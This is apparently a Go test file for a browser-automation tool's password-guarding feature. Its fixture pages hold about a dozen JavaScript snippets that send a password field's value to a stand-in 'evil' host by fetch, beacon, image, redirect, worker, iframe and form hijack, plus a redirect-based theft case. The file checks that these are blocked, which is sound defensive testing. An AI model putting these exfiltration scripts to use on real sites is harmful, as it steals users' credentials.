package page_test

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/bctrl-go/bctrl/internal/browser"
	"github.com/bctrl-go/bctrl/internal/browser/browsertest"
)

// TestAPlaceholderIsStoppedOnEveryOtherWay lets a page that was given a
// placeholder send it where it likes.
func TestAPlaceholderIsStoppedOnEveryOtherWay(t *testing.T) {
	ctx, p, b := openPage(t)
	evil := browsertest.NewSite(t, nil)
	cors := func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
	}
	evil.Handlers["/steal"] = cors
	const start = `<form id=f method=post action=/login><input type=password name=p id=p aria-label=Password>` +
		`<button>Log in</button></form><p id=out>ready</p><script>
const steal = u => `
	s := browsertest.NewSite(t, map[string]string{
		"/post":   start + `fetch(u, {method: 'POST', body: JSON.stringify({p: p.value})});`,
		"/image":  start + `{ new Image().src = u + '?' + p.value };`,
		"/coded":  start + `{ new Image().src = u + '?' + btoa('x' + p.value) };`,
		"/beacon": start + `navigator.sendBeacon(u, 'p=' + p.value);`,
		"/header": start + `fetch(u, {headers: {'X-P': p.value}});`,
		"/move":   start + `{ location = u + '?' + encodeURIComponent(p.value) };`,
		"/form":   start + `{ f.action = u; f.submit() };`,
		"/get":    start + `{ f.method = 'get'; f.submit() };`,
		"/worker": start + `new Worker(URL.createObjectURL(new Blob(['onmessage = e => fetch(e.data.u, {method: "POST", ` +
			`body: e.data.p})']))).postMessage({u, p: p.value});`,
		"/frame": start + `{ const i = document.createElement('iframe'); i.src = u + '?' + p.value; ` +
			`document.body.append(i) };`,
		"/inside": start + `fetch('/login', {method: 'POST', headers: {'Content-Type': 'text/xml'}, ` +
			`body: '<p>' + p.value + '</p>'});`,
		"/wrap":  start + `fetch('/login', {method: 'POST', body: JSON.stringify({all: 'p=' + p.value})});`,
		"/basic": start + `fetch('/login', {method: 'POST', headers: {Authorization: 'Basic ' + btoa('u:' + p.value)}});`,
		"/key":   start + `fetch('/login', {method: 'POST', body: JSON.stringify({[p.value]: 1})});`,
	})
	for path := range s.Pages {
		s.Pages[path] += "</script><button onclick=\"steal('" + evil.URL + "/steal')\">Steal</button>"
	}
	for path := range s.Pages {
		obs := browsertest.Open(ctx, t, p, s.URL+path)
		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
			browsertest.Login("password", browsertest.Hunter, s.URL)), path)
		placeholder, _, _ := strings.Cut(browsertest.InputValues(ctx, t, b), "\n")
		require.GreaterOrEqual(t, len(placeholder), 16, path)
		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Steal").Ref, browser.Click{}), path)
		blocked := false
		require.Eventually(t, func() bool {
			blocked = blocked || strings.Contains(browsertest.Observe(ctx, t, p).Outline, "note: blocked: ")
			return blocked
		}, 10*time.Second, 20*time.Millisecond, path)
		for _, text := range []string{evil.All(), fmt.Sprint(s.RequestsTo("/login")), fmt.Sprint(s.RequestsTo(path)[1:])} {
			require.False(t, strings.Contains(text, placeholder), path)
			require.False(t, strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("x"+placeholder))), path)
			browsertest.RequireUnseen(t, browsertest.Hunter, text)
		}
	}
}

// TestASwappedRequestIsNotRedirectedAway answers a login with redirects.
func TestASwappedRequestIsNotRedirectedAway(t *testing.T) {
	ctx, p, _ := openPage(t)
	evil := browsertest.NewSite(t, map[string]string{"/steal": "stolen"})
	s := browsertest.NewSite(t, map[string]string{
		"/form": `<form method=post action=/away><input type=password name=p aria-label=Password><button>Log in</button>` +
			`</form>`,
		"/fetch": `<form id=f><input type=password name=p aria-label=Password><button>Log in</button></form>` +
			`<script>f.onsubmit = e => { e.preventDefault(); fetch('/away', {method: 'POST', mode: 'no-cors', ` +
			`body: new URLSearchParams(new FormData(f))}) }</script>`,
		"/near": `<form method=post action=/moved><input type=password name=p aria-label=Password><button>Log in</button>` +
			`</form>`,
		"/there": "<h1>Welcome</h1>",
	})
	s.Handlers["/away"] = func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.URL+"/steal", http.StatusTemporaryRedirect)
	}
	s.Handlers["/moved"] = func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/there", http.StatusPermanentRedirect)
	}
	for _, path := range []string{"/form", "/fetch"} {
		obs := browsertest.Open(ctx, t, p, s.URL+path)
		require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
			browsertest.Login("password", browsertest.Hunter, s.URL)))
		require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref, browser.Click{}))
		require.Eventually(t, func() bool {
			return strings.Contains(browsertest.Observe(ctx, t, p).Outline, "a redirect that would take")
		}, 10*time.Second, 20*time.Millisecond, path)
		require.Empty(t, evil.RequestsTo("/steal"), path)
	}
	require.Len(t, s.RequestsTo("/away"), 2)

	obs := browsertest.Open(ctx, t, p, s.URL+"/near")
	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
		browsertest.Login("password", browsertest.Hunter, s.URL)))
	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref, browser.Click{}))
	require.Contains(t, browsertest.Settle(ctx, t, p).Outline, "Welcome")
	there := s.RequestsTo("/there")
	require.Len(t, there, 1)
	got, err := url.ParseQuery(there[0].Body)
	require.NoError(t, err)
	require.True(t, got.Get("p") == browsertest.Hunter, "a redirect within the site takes the value along")
}

// TestEchoedSecretsAreScrubbed shows a password in a page in every way that a
// careless site may, and takes a picture of it.
func TestEchoedSecretsAreScrubbed(t *testing.T) {
	ctx, p, _ := openPage(t)
	const secret = "correct-Horse_7.battery"
	s := browsertest.NewSite(t, map[string]string{"/": `<form method=post action=/login>` +
		`<input type=password name=p aria-label=Password><button>Log in</button></form>`})
	s.Handlers["/login"] = func(w http.ResponseWriter, r *http.Request) {
		_ = r.ParseForm()
		pw := r.PostForm.Get("p")
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, `<title>Wrong: %[1]s</title><p>Wrong password %[1]s.</p>`+
			`<p>Split <b>correct-Horse</b>_7.battery</p><p style="text-transform:uppercase">%[1]s</p>
<input aria-label="Tried %[1]s" value="%[1]s"><button>Forget %[1]s</button><p>%[2]s</p><a href="?p=%[1]s">again</a>`+
			`<select aria-label=Old><option>%[1]s</select><img alt="%[1]s"><script>history.replaceState(0, '', '?p=%[1]s'); `+
			`if (!sessionStorage.x) alert('%[1]s')</script>`,
			pw, base64.StdEncoding.EncodeToString([]byte("user:"+pw)))
	}
	obs := browsertest.Open(ctx, t, p, s.URL+"/")
	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
		browsertest.Login("password", secret, s.URL)))
	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref, browser.Click{}))
	obs = browsertest.Settle(ctx, t, p)
	browsertest.RequireUnseen(t, secret, obs.Outline, obs.URL, obs.Title, fmt.Sprint(obs.Elements))
	require.GreaterOrEqual(t, strings.Count(obs.Outline, "[secret]"), 8)
	require.Contains(t, obs.Outline, "Wrong password [secret].")
	require.Equal(t, "Wrong: [secret]", obs.Title)

	shot, err := p.Screenshot(ctx, false)
	require.NoError(t, err)
	require.Greater(t, browsertest.MaskedPixels(t, shot), 5000, "the echoes are painted over")

	err = p.Click(ctx, "e1", browser.Click{})
	require.Error(t, err)
	browsertest.RequireUnseen(t, secret, err.Error())
}

// TestDirectFillTypesTheValueAndGuardsIt opts out of the swap.
func TestDirectFillTypesTheValueAndGuardsIt(t *testing.T) {
	ctx, p, b := openPage(t)
	evil := browsertest.NewSite(t, nil)
	s := browsertest.NewSite(t, map[string]string{"/": `<form id=f onsubmit="event.preventDefault(); fetch('/login', ` +
		`{method: 'POST', body: '<xml>' + p.value + '</xml>'})"><input type=password id=p aria-label=Password>` +
		`<button>Log in</button></form>
<button onclick="fetch('` + evil.URL +
		`/steal', {method: 'POST', mode: 'no-cors', body: p.value})">Steal</button>` +
		`<button onclick="p.type = 'text'">Show</button><input id=copy aria-label=Copy>` +
		`<button onclick="copy.value = p.value">Move</button>`})
	obs := browsertest.Open(ctx, t, p, s.URL+"/")
	fill := browsertest.Login("password", browsertest.Hunter, s.URL)
	fill.Direct = true
	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref, fill))
	seen, _, _ := strings.Cut(browsertest.InputValues(ctx, t, b), "\n")
	require.True(t, seen == browsertest.Hunter, "the page holds the value")
	require.Empty(t, browsertest.Find(t, browsertest.Observe(ctx, t, p), "textbox", "Copy").Value,
		"an empty field says so, or nobody would fill it")

	before, err := p.Screenshot(ctx, true)
	require.NoError(t, err)
	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Show").Ref, browser.Click{}))
	shown := browsertest.Observe(ctx, t, p)
	browsertest.RequireUnseen(t, browsertest.Hunter, shown.Outline, fmt.Sprint(shown.Elements))
	require.Equal(t, "[secret]", browsertest.Find(t, shown, "textbox", "Password").Value)
	after, err := p.Screenshot(ctx, true)
	require.NoError(t, err)
	require.Greater(t, browsertest.MaskedPixels(t, before), 1000)
	require.Greater(t, browsertest.MaskedPixels(t, after), 1000)

	// The page moves the value to another field, and the model edits it there.
	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Move").Ref, browser.Click{}))
	moved := browsertest.Find(t, browsertest.Observe(ctx, t, p), "textbox", "Copy")
	require.Equal(t, "[secret]", moved.Value)
	require.NoError(t, p.Click(ctx, moved.Ref, browser.Click{}))
	for _, key := range []string{"End", "Backspace", "Home", "x"} {
		require.NoError(t, p.Press(ctx, key))
	}
	require.Equal(t, "[secret]", browsertest.Find(t, browsertest.Observe(ctx, t, p), "textbox", "Copy").Value)
	for _, key := range []string{"Control+c", "Control+Shift+X", "Meta+v", "Control+z"} {
		require.ErrorContains(t, p.Press(ctx, key), "page.key_refused", key)
	}
	require.NoError(t, p.Type(ctx, moved.Ref, "my own text"))
	require.Equal(t, "my own text", browsertest.Find(t, browsertest.Observe(ctx, t, p), "textbox", "Copy").Value)
	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Move").Ref, browser.Click{}))
	require.NoError(t, p.Click(ctx, moved.Ref, browser.Click{}))
	for range len([]rune(browsertest.Hunter)) - 3 {
		require.NoError(t, p.Press(ctx, "Backspace"))
	}
	require.Equal(t, "[secret]", browsertest.Find(t, browsertest.Observe(ctx, t, p), "textbox", "Copy").Value,
		"nor where the model has written before")

	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Steal").Ref, browser.Click{}))
	require.Contains(t, browsertest.Settle(ctx, t, p).Outline, "note: blocked: ")
	require.Empty(t, evil.RequestsTo("/steal"))
	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref, browser.Click{}))
	require.Eventually(t, func() bool { return len(s.RequestsTo("/login")) == 1 }, 10*time.Second, 10*time.Millisecond)
	require.True(t, s.RequestsTo("/login")[0].Body == "<xml>"+browsertest.Hunter+"</xml>",
		"the site received the value as its page wrote it")
}

// TestInterceptionEndsWithItsReason counts on requests not being held up for
// ever after a login.
func TestInterceptionEndsWithItsReason(t *testing.T) {
	ctx, p, _ := openPage(t)
	s := browsertest.NewSite(t, map[string]string{"/": `<form method=post action=/login>` +
		`<input type=password name=p aria-label=Password><button>Log in</button></form>`, "/login": "<h1>Welcome</h1>"})
	obs := browsertest.Open(ctx, t, p, s.URL+"/")
	require.NoError(t, p.Fill(ctx, browsertest.Find(t, obs, "textbox", "Password").Ref,
		browsertest.Login("password", browsertest.Hunter, s.URL)))
	require.True(t, p.Guarded())
	require.NoError(t, p.Click(ctx, browsertest.Find(t, obs, "button", "Log in").Ref, browser.Click{}))
	require.Contains(t, browsertest.Settle(ctx, t, p).Outline, "Welcome")
	require.Eventually(t, func() bool { return !p.Guarded() }, 10*time.Second, 20*time.Millisecond, "the document is gone")
}

// TestLoginGoesOverSeveralPages fills a name, a password and a code on pages
// of their own.
func TestLoginGoesOverSeveralPages(t *testing.T) {
	ctx, p, _ := openPage(t)
	step := func(next, input string) string {
		return `<form method=post action=` + next + `>` + input + `<button>Next</button></form>`
	}
	s := browsertest.NewSite(t, map[string]string{
		"/":         step("/password", `<input type=email name=u aria-label=Email>`),
		"/password": step("/code", `<input type=password name=p aria-label=Password>`),
		"/code":     step("/done", `<input name=c aria-label=Code maxlength=6>`),
		"/done":     "<h1>Welcome</h1>",
	})
	obs := browsertest.Open(ctx, t, p, s.URL+"/")
	for _, fill := range []browser.Fill{browsertest.Login("username", "bot@example.com", s.URL),
		browsertest.Login("password", browsertest.Hunter, s.URL), browsertest.Login("totp", "123456", s.URL)} {
		require.NoError(t, p.Fill(ctx, obs.Elements[0].Ref, fill))
		require.NoError(t, p.Press(ctx, "Enter"))
		obs = browsertest.Settle(ctx, t, p)
	}
	require.Contains(t, obs.Outline, "Welcome")
	require.True(t, s.RequestsTo("/password")[0].Body == "u=bot%40example.com")
	require.True(t, s.RequestsTo("/code")[0].Body == "p="+url.QueryEscape(browsertest.Hunter))
	require.True(t, s.RequestsTo("/done")[0].Body == "c=123456")
	for _, r := range s.Seen {
		browsertest.RequireUnseen(t, browsertest.Hunter, r.Query, r.Referer, r.Path)
	}
}
